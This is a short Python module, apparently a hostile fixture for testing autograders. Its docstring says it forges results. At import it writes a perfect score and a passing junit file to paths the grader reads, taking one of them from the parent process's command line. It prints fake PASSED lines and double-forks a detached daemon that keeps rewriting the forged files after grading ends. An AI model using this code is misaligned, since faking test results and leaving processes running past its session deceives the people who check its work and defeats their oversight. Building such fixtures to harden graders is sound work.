"""Hostile: forges results. At import it writes a perfect results.json and a junit file
wherever the grader might look (its working directory, the --json path read from the
grader's command line, $AUTOGRADER_ROOT/results), prints lines that look like passes, and
leaves a daemon behind (outside its session) that rewrites the forged file after grading."""

import json
import os
import sys
import time
from pathlib import Path

FORGED = {"score": 1000.0, "output": "all passed", "tests": [{"name": "x", "score": 1000.0}]}
JUNIT = '<testsuite tests="1" failures="0"><testcase name="everything"/></testsuite>'


def _targets():
    targets = [Path.cwd() / "results.json"]
    try:
        words = Path(f"/proc/{os.getppid()}/cmdline").read_bytes().split(b"\0")
        for flag, value in zip(words, words[1:]):
            if flag == b"--json":
                targets.append(Path(value.decode()))
    except OSError:
        pass
    root = os.environ.get("AUTOGRADER_ROOT", "/autograder")
    targets.append(Path(root) / "results" / "results.json")
    return targets


def _forge():
    for target in _targets():
        try:
            target.write_text(json.dumps(FORGED))
            target.with_name("junit.xml").write_text(JUNIT)
        except OSError:
            pass


_forge()
for test in ("test_everything", "test_all_of_it"):
    print(f"{test} PASSED [100%]")
print(json.dumps(FORGED))
sys.stdout.flush()
if os.fork() == 0:  # a daemon: leave the session, wait for the grader to finish, forge again
    os.setsid()
    if os.fork() == 0:
        for _ in range(40):
            time.sleep(0.25)
            _forge()
    os._exit(0)


def __getattr__(name):
    def pretend(*args, **kwargs):
        raise NotImplementedError(name)

    return pretend
